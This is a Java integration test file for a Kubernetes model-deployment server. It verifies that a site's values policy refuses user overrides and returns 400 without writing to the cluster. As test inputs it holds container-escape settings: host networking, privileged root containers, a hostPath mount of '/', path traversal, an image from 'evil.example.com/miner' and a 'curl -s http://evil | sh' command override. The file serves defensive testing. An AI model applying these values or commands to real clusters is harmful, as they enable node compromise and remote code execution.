package dev.modelsphere.swiss.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.modelsphere.swiss.helm.TestCharts;
import dev.modelsphere.swiss.kube.PlanConfigMapName;
import dev.modelsphere.swiss.testing.ClusterTest;
import dev.modelsphere.swiss.testing.KubeCluster;
import io.fabric8.kubernetes.api.model.Namespace;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 38, finding 2: a user's form values and hand edits may not take the site's pods where the
 * site's values policy does not let them go. Each attack of the finding is made through the real
 * server on the test cluster with our demo catalog and charts, on a site whose profile names its
 * image mirror: the plan's preflight names the refusal, the install is refused with 400 naming the
 * rule, the field and the value, and nothing is written to the cluster.
 */
@ClusterTest
class ValuesPolicyOnAClusterTest {
  @RegisterExtension static final KubeCluster cluster = new KubeCluster();

  private static final String MODEL = "mistral-small-24b";
  private static final String RELEASE = "mistral";
  private static final String MIRROR = "registry.site.example/mirror";

  /** The demo site, pulling its images through its own mirror. */
  private static final String MIRRORED_SITE =
      """
      name: test-site
      namespace: models
      chartPath: %s
      registry:
        mirror: %s
      model:
        pathTemplate: /models/{{org}}/{{name}}
      """
          .formatted(TestCharts.exampleCharts(), MIRROR);

  private static final String SERVER =
      "  allowDeploy: true\n  database: ${dir}/swiss.db\n  auth:\n    disabled: true\n";

  @TempDir Path dir;
  private TestServer server;
  private final List<String> madeNamespaces = new ArrayList<>();

  @AfterEach
  void stop() {
    if (server != null) {
      server.close();
    }
    madeNamespaces.forEach(ns -> cluster.admin().namespaces().withName(ns).delete());
  }

  private TestServer serve(String profile) {
    server =
        TestServer.onClusterAs(
            dir,
            cluster,
            cluster.admin(),
            read(cluster.kubeconfig()),
            SERVER,
            TestServer.DEMO_CATALOG,
            profile);
    return server;
  }

  private String planRequest(String more) {
    return """
        {"model": "%s", "version": "1.0.0", "namespace": "%s", "serviceId": "%s"%s}
        """
        .formatted(MODEL, cluster.namespace(), RELEASE, more);
  }

  /** The values-policy problems of the plan's preflight, as {@code field: message} lines. */
  private static List<String> policyProblems(JsonNode plan) {
    List<String> lines = new ArrayList<>();
    plan.path("preflight")
        .path("problems")
        .forEach(
            p -> {
              if (p.path("rule").asText().equals("values-policy")) {
                lines.add(p.path("field").asText() + ": " + p.path("message").asText());
              }
            });
    return lines;
  }

  /** Composes the attack, and tries to install it; answers the install's refusal. */
  private TestServer.Reply composeAndInstall(String more, String... expectedFields) {
    JsonNode plan = server.post("/api/plans", planRequest(more)).ok();
    assertThat(plan.path("preflight").path("ok").asBoolean()).isFalse();
    assertThat(policyProblems(plan))
        .as("the plan's preflight names each refused field")
        .allSatisfy(line -> assertThat(line).contains("Pod Security restricted"))
        .anySatisfy(line -> assertThat(line).contains(expectedFields));
    return server.post(
        "/api/install", "{\"planHash\": \"%s\"}".formatted(plan.path("hash").asText()));
  }

  private void assertNothingWritten() {
    String ns = cluster.namespace();
    assertThat(cluster.admin().apps().deployments().inNamespace(ns).list().getItems()).isEmpty();
    assertThat(
            cluster.admin().secrets().inNamespace(ns).withLabel("owner", "helm").list().getItems())
        .isEmpty();
    assertThat(cluster.kube().configMap(ns, PlanConfigMapName.of(RELEASE).toString())).isEmpty();
    assertThat(server.get("/api/runs?release=" + RELEASE).ok().path("runs")).isEmpty();
  }

  @Test
  void aUserCannotPutTheReleaseOnTheNodesNetwork() {
    serve(MIRRORED_SITE);

    TestServer.Reply install =
        composeAndInstall(", \"overrides\": {\"hostNetwork\": true}", "hostNetwork");

    assertThat(install.status()).isEqualTo(400);
    assertThat(install.body())
        .contains("values-policy", "spec.template.spec.hostNetwork", "true")
        .contains("policy.allow.hostNetwork: true");
    assertNothingWritten();
  }

  @Test
  void aUserCannotRunAPrivilegedContainerAsRoot() {
    serve(MIRRORED_SITE);

    TestServer.Reply install =
        composeAndInstall(
            ", \"editsYAML\": \"securityContext: {privileged: true, runAsUser: 0}\\n"
                + "podSecurityContext: {runAsUser: 0, runAsNonRoot: false}\\n\"",
            "securityContext.privileged");

    assertThat(install.status()).isEqualTo(400);
    assertThat(install.body())
        .contains("containers[engine].securityContext.privileged is true")
        .contains("securityContext.runAsUser is 0")
        .contains("policy.allow.privileged: true", "policy.allow.runAsRoot: true");
    assertNothingWritten();
  }

  @Test
  void aUserCannotMountTheNodesRootDirectory() {
    serve(MIRRORED_SITE);

    TestServer.Reply install =
        composeAndInstall(
            ", \"overrides\": {\"volumes\": [{\"name\": \"host\", \"hostPath\": {\"path\": \"/\"}}],"
                + " \"volumeMounts\": [{\"name\": \"host\", \"mountPath\": \"/host\"}]}",
            "volumes[host].hostPath.path");

    assertThat(install.status()).isEqualTo(400);
    assertThat(install.body())
        .contains("volumes[host].hostPath.path is \\\"/\\\"")
        .contains("/models", "policy.allow.hostPath");
    assertNothingWritten();
  }

  @Test
  void aUserCannotMoveTheModelMountToTheNodesRootThroughTheLocalPath() {
    serve(MIRRORED_SITE);

    TestServer.Reply install =
        composeAndInstall(", \"localPath\": \"/models/../\"", "volumes[model].hostPath.path");

    assertThat(install.status()).isEqualTo(400);
    assertNothingWritten();
  }

  @Test
  void aUserCannotPullAnImageFromARegistryTheSiteDoesNotUse() {
    serve(MIRRORED_SITE);

    TestServer.Reply install =
        composeAndInstall(
            ", \"overrides\": {\"image\": {\"repository\": \"evil.example.com/miner\", \"tag\": \"1\"}}",
            "containers[engine].image");

    assertThat(install.status()).isEqualTo(400);
    assertThat(install.body()).contains("evil.example.com/miner:1", MIRROR, "policy.registries");
    assertNothingWritten();
  }

  @Test
  void aUserCannotReplaceTheEnginesCommandAndNoPlanIsKept() {
    serve(MIRRORED_SITE);

    TestServer.Reply plan =
        server.post(
            "/api/plans",
            planRequest(
                ", \"overrides\": {\"commandOverride\": [\"sh\", \"-c\", \"curl -s http://evil | sh\"]}"));

    assertThat(plan.status()).isEqualTo(400);
    assertThat(plan.body())
        .contains("values-policy", "commandOverride", "curl -s http://evil | sh")
        .contains("policy.keys.deny");
    assertNothingWritten();
  }

  @Test
  void aPlanComposedBeforeThePolicyTightenedIsRefusedAtInstall() throws IOException {
    serve(MIRRORED_SITE + "policy:\n  allow:\n    hostNetwork: true\n");
    JsonNode plan =
        server.post("/api/plans", planRequest(", \"overrides\": {\"hostNetwork\": true}")).ok();
    assertThat(policyProblems(plan)).isEmpty();

    Files.writeString(dir.resolve("profile.yaml"), MIRRORED_SITE);
    server.clock.advance(Duration.ofHours(1));
    TestServer.Reply install =
        server.post("/api/install", "{\"planHash\": \"%s\"}".formatted(plan.path("hash").asText()));

    assertThat(install.status()).isEqualTo(400);
    assertThat(install.body()).contains("hostNetwork", "policy.allow.hostNetwork");
    assertNothingWritten();
  }

  @Test
  void theDemoPlanKeepsTheDefaultPolicyAndItsNewNamespaceCarriesThePodSecurityLabels() {
    // The test namespace's random suffix keeps it apart from other runs; the whole name is too
    // long.
    String made = "t-made" + cluster.namespace().substring(cluster.namespace().lastIndexOf('-'));
    madeNamespaces.add(made);
    server = TestServer.onDemoSite(dir, cluster, made, SERVER, "test-web");

    JsonNode plan =
        server
            .post(
                "/api/plans",
                """
                {"model": "%s", "version": "1.0.0", "namespace": "%s", "serviceId": "%s",
                 "createNamespace": true}
                """
                    .formatted(MODEL, made, RELEASE))
            .ok();
    assertThat(policyProblems(plan)).isEmpty();
    server
        .post("/api/install", "{\"planHash\": \"%s\"}".formatted(plan.path("hash").asText()))
        .ok();

    Namespace namespace = cluster.admin().namespaces().withName(made).get();
    assertThat(namespace.getMetadata().getLabels())
        .containsEntry("pod-security.kubernetes.io/warn", "restricted")
        .containsEntry("pod-security.kubernetes.io/audit", "restricted")
        .containsEntry("pod-security.kubernetes.io/enforce", "privileged");
  }

  private static String read(Path file) {
    try {
      return Files.readString(file);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
